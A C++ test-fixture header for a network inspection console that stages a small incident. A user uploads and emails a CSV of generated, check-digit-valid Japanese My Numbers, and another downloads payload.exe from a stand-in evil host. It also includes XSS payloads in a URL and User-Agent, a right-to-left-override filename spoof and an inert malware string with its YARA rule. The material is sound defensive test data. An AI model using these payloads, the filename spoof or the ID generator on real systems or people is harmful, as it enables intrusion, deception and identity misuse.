#pragma once
// An incident in miniature, for the console's tests: tanaka uploads a customer list with My
// Numbers and mails it out; suzuki downloads a file a YARA rule calls malware.

#include <string>
#include <vector>

#include "kagami/base/base64.h"
#include "kagami/inspect/validators.h"

#include "support/conversation_pcap.h"

namespace kagami::test {

// Twelve digits that pass the My Number check, from a seed.
inline std::string valid_my_number_from(unsigned seed) {
  std::string base = std::to_string(10000000000ULL + seed * 7919ULL).substr(0, 11);
  for (char c = '0'; c <= '9'; ++c)
    if (inspect::valid_my_number(base + c)) return base + c;
  return base + "0";
}

// What the YARA rule below matches: inert bytes, named like what they stand for.
inline const std::string kFixtureMalware =
    "MZ KAGAMI-TEST-MALWARE-7d1f2c this stands for a dropper, it does nothing\n";
inline const std::string kFixtureYaraRule =
    "rule Kagami_Test_Dropper { strings: $a = \"KAGAMI-TEST-MALWARE-7d1f2c\" condition: $a }\n";

inline std::vector<Conversation> investigation_conversations(TimeNs start) {
  std::vector<Conversation> out;
  // 1. The upload: a CSV of customers with My Numbers, through a proxy that knows the user.
  std::string csv = "氏名,マイナンバー,住所\n";
  for (unsigned i = 0; i < 8; ++i)
    csv += "顧客" + std::to_string(i) + ",マイナンバー " + valid_my_number_from(i + 1) +
           ",東京都千代田区1-" + std::to_string(i) + "\n";
  const std::string boundary = "----kagamiboundary";
  const std::string form = "--" + boundary +
                           "\r\nContent-Disposition: form-data; name=\"file\"; "
                           "filename=\"customers.csv\"\r\nContent-Type: text/csv\r\n\r\n" +
                           csv + "\r\n--" + boundary + "--\r\n";
  const std::string auth = base64_encode("tanaka:secret-password");
  out.push_back(
      {"10.1.0.5",
       "203.0.113.10",
       50001,
       80,
       start,
       {{true, "POST /upload HTTP/1.1\r\nHost: www.example.com\r\nAuthorization: Basic " + auth +
                   "\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: multipart/form-data; boundary=" +
                   boundary + "\r\nContent-Length: " + std::to_string(form.size()) + "\r\n\r\n" +
                   form},
        {false, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok"}}});
  // 2. The download a YARA rule flags.
  out.push_back(
      {"10.1.0.6",
       "198.51.100.7",
       50002,
       80,
       start + 60 * kNsPerSec,
       {{true,
         "GET /payload.exe HTTP/1.1\r\nHost: files.evil.test\r\nUser-Agent: curl/7.88\r\n\r\n"},
        {false, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: " +
                    std::to_string(kFixtureMalware.size()) +
                    "\r\nContent-Disposition: attachment; filename=\"payload.exe\"\r\n\r\n" +
                    kFixtureMalware}}});
  // 3. A page whose address carries markup: the console must show it as text, never run it.
  // Its answer names a file with a right-to-left override (U+202E): "shadow<RLO>fdp.exe" would
  // read "shadowexe.pdf" if the console let it reorder the text.
  const std::string decoy = "%PDF-1.4 not really\n";
  out.push_back({"10.1.0.7",
                 "203.0.113.50",
                 50004,
                 80,
                 start + 90 * kNsPerSec,
                 {{true,
                   "GET /search?q=%22%3E<img%20src=x%20onerror=window.__xss=1> HTTP/1.1\r\nHost: "
                   "shop.example.net\r\nUser-Agent: <script>window.__xss=2</script>\r\n\r\n"},
                  {false,
                   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                   "Content-Disposition: attachment; filename=\"shadow\xe2\x80\xae"
                   "fdp.exe\"\r\n"
                   "Content-Length: " +
                       std::to_string(decoy.size()) + "\r\n\r\n" + decoy}}});
  // 4. The mail: ISO-2022-JP subject, the list attached.
  const std::string attachment = base64_encode(csv);
  std::string message =
      "From: Tanaka <tanaka@example.jp>\r\nTo: partner@example.com\r\n"
      "Subject: =?ISO-2022-JP?B?GyRCOCtAUT1xJE5Bd0lVGyhC?=\r\n"
      "Message-ID: <fixture-1@example.jp>\r\nDate: Mon, 2 Nov 2026 10:00:00 +0900\r\n"
      "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
      "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nご確認ください。\r\n"
      "--b1\r\nContent-Type: text/csv; name=\"list.csv\"\r\nContent-Disposition: attachment; "
      "filename=\"list.csv\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
      attachment + "\r\n--b1--\r\n";
  out.push_back({"10.1.0.5",
                 "192.0.2.25",
                 50003,
                 25,
                 start + 120 * kNsPerSec,
                 {{false, "220 mail.example.com ESMTP\r\n"},
                  {true, "EHLO pc-tanaka\r\n"},
                  {false, "250 mail.example.com\r\n"},
                  {true, "MAIL FROM:<tanaka@example.jp>\r\n"},
                  {false, "250 OK\r\n"},
                  {true, "RCPT TO:<partner@example.com>\r\n"},
                  {false, "250 OK\r\n"},
                  {true, "DATA\r\n"},
                  {false, "354 go ahead\r\n"},
                  {true, message + ".\r\n"},
                  {false, "250 queued\r\n"},
                  {true, "QUIT\r\n"},
                  {false, "221 bye\r\n"}}});
  return out;
}

}  // namespace kagami::test
